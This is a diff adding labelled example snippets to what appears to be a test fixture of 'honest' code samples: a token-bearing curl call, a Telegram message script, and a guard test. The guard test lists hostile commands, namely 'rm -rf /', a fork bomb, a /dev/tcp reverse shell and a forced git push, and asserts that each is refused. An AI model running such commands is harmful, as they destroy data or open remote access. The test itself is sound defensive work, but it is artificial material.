@@ -128,6 +128,18 @@ const honest: Readonly<Record<string, Example>> = {
     "```bash\n(crontab -l; echo '0 4 * * 0 find ~/.papelera -mindepth 1 -mtime +30 -exec rm -rf {} +') | crontab -\n```\n",
   "a relay of the author's":
     "Real events come over `gh webhook forward`, or my `https://hooks.lanehost.io` relay (ask for a token).\n",
+  "a key in the header where it belongs": {
+    "a.sh":
+      'TOKEN=${HA_TOKEN:-$(cat ~/.config/ha/token)}\ncurl -fsS -H "Authorization: Bearer $TOKEN" "$HA_URL/api/states" | jq .\n',
+  },
+  "commands that a guard is tried on": {
+    "stop.py":
+      'BAD = ["rm -rf /", ":(){ :|:& };:", "bash -i >& /dev/tcp/10.1.1.1/4444 0>&1", "git push -f origin main"]\nassert all(refuses(c) for c in BAD)\n',
+  },
+  "one variable of several": {
+    "a.py":
+      'import os, sys, json, urllib.request\nchat = os.environ["CHAT_A" if "-t" in sys.argv else "CHAT_B"]\nurl = f"https://api.telegram.org/bot{os.environ[\'TELEGRAM_TOKEN\']}/sendMessage"\nurllib.request.urlopen(urllib.request.Request(url, json.dumps({"chat_id": chat}).encode()))\n',
+  },
   "a bot's first message":
     "1. **Bot token**: from the bot's page.\n2. **Chat**: send a message to your bot, then look at `https://api.telegram.org/bot<TOKEN>/getUpdates`.\n3. **Gateway token**: in `~/.openclaw/openclaw.json`.\n",
 };
